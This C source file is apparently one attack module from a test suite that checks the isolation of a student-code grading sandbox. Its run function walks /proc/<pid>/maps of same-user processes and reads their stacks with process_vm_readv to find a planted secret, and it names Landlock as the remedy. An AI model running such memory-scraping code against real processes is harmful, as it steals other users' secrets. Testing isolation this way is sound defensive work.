// SPDX-License-Identifier: MIT
/*
 * Goal:  what another student's program has in memory, at this moment.
 * Means: process_vm_readv(2) of every process of the same user. The other one is at work: what is
 *        tidied up between two turns has had no turn yet.
 */
#include "attacks/beside.h"
#include "attacks/proc-read/neighbours.h"

#include <stdio.h>
#include <sys/uio.h>

#define TAG "AT-WORK:"

enum { MOST = 256 << 10 };

/* The stack alone: that is where the honest student's line is. */
static bool rob(pid_t pid)
{
	static char memory[MOST];
	unsigned long from, to;
	char path[64], line[512];
	bool found = false;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	while (maps && !found && fgets(line, sizeof(line), maps)) {
		struct iovec into = { memory, sizeof(memory) }, there;
		const char *at;
		ssize_t n;

		if (!strstr(line, "[stack]") || sscanf(line, "%lx-%lx", &from, &to) != 2)
			continue;
		if (to - from < sizeof(memory))
			into.iov_len = to - from;
		there = (struct iovec){ (void *)(to - into.iov_len), into.iov_len };
		n = process_vm_readv(pid, &into, 1, &there, 1, 0);
		at = n > 0 ? memmem(memory, (size_t)n, TAG, strlen(TAG)) : NULL;
		found = at;
		if (at)
			loot(at, strnlen(at, 64));
	}
	if (maps)
		fclose(maps);
	return found;
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("process_vm_readv");
}

static enum claim victim(const struct brief *b)
{
	volatile char line[128];

	snprintf((char *)line, sizeof(line), TAG "%s", b->secret);
	return at_work();
}

const struct attack attack = {
	.effect = "what another student's program has in memory is read while it runs",
	.means = "process_vm_readv(2) of the stack of every process of the same user",
	.oracle = "secret:neighbour",
	.attack_id = "T1057, T1003.007, CWE-200",
	.remedy = "Landlock (a domain may not trace its outside); a filter; one student at a time",
	.refs = (const char *const[]){ "process_vm_readv(2)", "landlock(7), Ptrace restrictions", NULL },
	.run = run,
	.victim = victim,
};
